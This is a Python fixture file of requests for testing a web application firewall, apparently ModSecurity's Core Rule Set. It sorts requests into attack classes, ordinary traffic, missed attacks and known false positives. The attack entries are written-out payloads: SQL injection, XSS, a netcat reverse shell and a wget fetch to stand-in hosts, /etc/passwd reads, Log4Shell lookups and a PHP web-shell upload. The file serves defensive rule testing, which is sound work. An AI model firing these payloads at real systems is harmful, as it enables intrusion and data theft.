"""Requests for the WAF: attacks by class, and ordinary traffic of the kind that rules mistake for attacks.

Each is (method, target, {field: value}, body)."""

BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
           "Accept": "text/html,application/xhtml+xml,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.5"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
JSON = {"Content-Type": "application/json"}


def get(target, **fields):
    return "GET", target, {name.replace("_", "-"): value for name, value in fields.items()}, ""


def form(body, target="/form"):
    return "POST", target, FORM, body


def json(body, target="/api"):
    return "POST", target, JSON, body


def multipart(disposition, content, kind="text/plain"):
    body = (f"--sep\r\nContent-Disposition: form-data; {disposition}\r\nContent-Type: {kind}\r\n\r\n{content}\r\n--sep--\r\n")
    return "POST", "/upload", {"Content-Type": "multipart/form-data; boundary=sep"}, body


# Each scores what the default threshold blocks, at paranoia level 1.
ATTACKS = {
    "sql injection": [
        get("/?id=1'%20or%20'1'='1"),
        get("/?id=1%20UNION%20SELECT%20username,password%20FROM%20users--"),
        get("/?id=1;%20DROP%20TABLE%20users"),
        get("/?id=1%20AND%20SLEEP(5)"),
        get("/?q='%20UNION%20ALL%20SELECT%20NULL,concat(0x71,version()),NULL--%20-"),
        form("user=admin'--&password=x"),
        form("id=1+and+benchmark(10000000,md5(1))"),
        json('{"user":{"name":"x\' OR 1=1-- "}}'),
        get("/", Cookie="id=1' or '1'='1"),
    ],
    "cross-site scripting": [
        get("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
        get("/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
        get("/?q=%22%3E%3Csvg/onload=alert(1)%3E"),
        get("/?q=javascript:alert(document.cookie)"),
        form("comment=%3Ciframe+src%3D%22javascript%3Aalert(1)%22%3E"),
        json('{"html":"<script src=//x.example/y.js></script>"}'),
    ],
    "remote command execution": [
        get("/?host=127.0.0.1;cat%20/etc/passwd"),
        get("/?cmd=$(wget%20http://x.example/y)"),
        get("/?x=%7C%20nc%20-e%20/bin/sh%20192.0.2.1%204444"),
        form("name=x%26%26ping+-c+1+x.example%3Bwhoami"),
        get("/", User_Agent="() { :;}; /bin/bash -c 'id'"),
        get("/?x=powershell.exe%20-NoProfile%20-Command%20Get-Process"),
    ],
    "local file inclusion": [
        get("/?file=../../../../etc/passwd"),
        get("/?page=..%2f..%2f..%2fetc%2fshadow"),
        get("/?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
        get("/?f=....//....//etc/passwd"),
        get("/.git/config"),
        get("/?path=c:%5cwindows%5cwin.ini&x=../../boot.ini"),
    ],
    "remote file inclusion": [
        get("/?page=http://192.0.2.1/shell.txt?"),
        get("/?include=ftp://192.0.2.7/x.php?"),
    ],
    "code injection": [
        get("/?x=%3C?php%20system($_GET['c']);%20?%3E"),
        get("/?x=phpinfo()"),
        form("data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
        get("/?x=_$$ND_FUNC$$_function()%7Brequire('child_process').exec('ls')%7D()"),
        get("/?x=$%7Bjndi:ldap://x.example/a%7D"),
        form("x=java.lang.Runtime.getRuntime().exec('id')"),
    ],
    "scanners": [
        get("/", User_Agent="sqlmap/1.7#stable (https://sqlmap.org)"),
        get("/", User_Agent="Nikto/2.1.6"),
        get("/", User_Agent="Mozilla/5.0 (Nessus)"),
    ],
    "protocol": [
        ("TRACE", "/", {}, ""),
        get("/?x=a%0d%0aSet-Cookie:%20a=b"),
        get("/", Proxy="http://192.0.2.1/"),
        get("/backup.sql"),
        ("POST", "/", {"Content-Type": "application/x-unheard-of"}, "x"),
        json('{"a":'),
        multipart('name="f"; filename="shell.php"', "<?php system('id'); ?>"),
    ],
    "session fixation": [
        get("/?x=%3Cmeta%20http-equiv=set-cookie%20content=a%3Bdomain=.x.example%3E"),
    ],
}

ORDINARY = [
    get("/"),
    get("/index.html"),
    get("/search?q=o'reilly"),
    get("/search?q=rock+%26+roll"),
    get("/search?q=c%2B%2B+vector+at"),
    get("/search?q=drop+off+table+lamp"),
    get("/search?q=how+to+order+by+phone"),
    get("/products?page=2&sort=-price&filter[color]=red&filter[size]=xl"),
    get("/products/12345?utm_source=newsletter&utm_medium=email&utm_campaign=spring%20sale"),
    get("/static/app.3f2a1b.js"),
    get("/images/logo%20large.png"),
    get("/calendar?from=2024-01-01T00:00:00Z&to=2024-02-01T00:00:00%2B01:00"),
    get("/redirect?next=%2Faccount%2Fsettings"),
    get("/login?return_to=https%3A%2F%2Fexample.com%2Faccount"),
    get("/maps?ll=52.52,13.405&z=12"),
    get("/wiki/Rome_(disambiguation)"),
    get("/?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"),
    get("/q?ids=1,2,3,4,5&fields=id,name,created_at"),
    get("/q?name=Jos%C3%A9+%C3%81lvarez&city=M%C3%BCnchen"),
    get("/q?name=%E5%B1%B1%E7%94%B0&greeting=%D0%9F%D1%80%D0%B8%D0%B2%D0%B5%D1%82"),
    get("/", Cookie="session=6f1ed002ab5595859014ebf0951522d9; theme=dark; _ga=GA1.2.1234567890.1700000000"),
    get("/", Authorization="Bearer abc.def.ghi", If_None_Match='W/"123"'),
    get("/", Range="bytes=0-1023"),
    get("/", X_Requested_With="XMLHttpRequest", Referer="https://example.com/a?b=c"),
    ("HEAD", "/", {}, ""),
    ("OPTIONS", "/", {"Origin": "https://example.com", "Access-Control-Request-Method": "POST"}, ""),
    form("user=jane&password=correct+horse+battery+staple"),
    form("comment=I+would+like+to+select+the+first+one+from+the+list%2C+please."),
    form("comment=It%27s+5+o%27clock+and+we%27re+%22done%22%21"),
    form("message=Dear+Sir%2C%0D%0A%0D%0Athanks+for+your+offer.%0D%0ARegards"),
    form("address=12%2F3+Main+St.+%234&phone=%2B49+30+1234567&note=call+me+%3B-%29"),
    form("price=%E2%82%AC+12.50&quantity=3&total=37.50&currency=EUR"),
    form("a=&b=&c="),
    json('{"name":"Jane","tags":["a","b"],"nested":{"n":1,"t":true,"z":null}}'),
    json('{"text":"See https://example.com/docs?a=b#c for more, or mail me@example.com"}'),
    json('{"items":[' + ",".join(f'{{"id":{n},"name":"item {n}"}}' for n in range(40)) + "]}"),
    json('{"markdown":"# Title\\n\\n* one\\n* two\\n\\n`code` and **bold**"}'),
    json('{"uuid":"123e4567-e89b-12d3-a456-426614174000","time":"2024-01-01T12:00:00.000Z"}'),
    multipart('name="f"; filename="letter.txt"', "Dear reader,\r\nthis is a letter."),
    multipart('name="f"; filename="photo.jpg"', "JFIF and so on", "image/jpeg"),
    multipart('name="title"', "My holiday photos"),
]

# Attacks that version 3.3.4 has no rule for at paranoia level 1: Log4Shell in a field, Spring4Shell.
MISSED = [
    get("/", User_Agent="${jndi:ldap://x.example/a}"),
    get("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
]

# Ordinary requests that rules score at paranoia level 1, and the rules. Whoever has such traffic excludes these rules
# where it comes.
FALSE_POSITIVES = [
    # Two words of SQL in one question; a GraphQL query with two fields.
    (get("/search?q=union+station+select+committee"), [942190]),
    (json('{"query":"query($id: ID!) { user(id: $id) { name email } }","variables":{"id":"42"}}'), [942190]),
    # An address as the end of a path: ".com" is the extension of a program.
    (get("/users/jane.doe@example.com"), [920440]),
    # An escaped percent sign before an escape that is none. It scores 3, which is below the threshold.
    (get("/search?q=100%25+cotton"), [920220]),
]
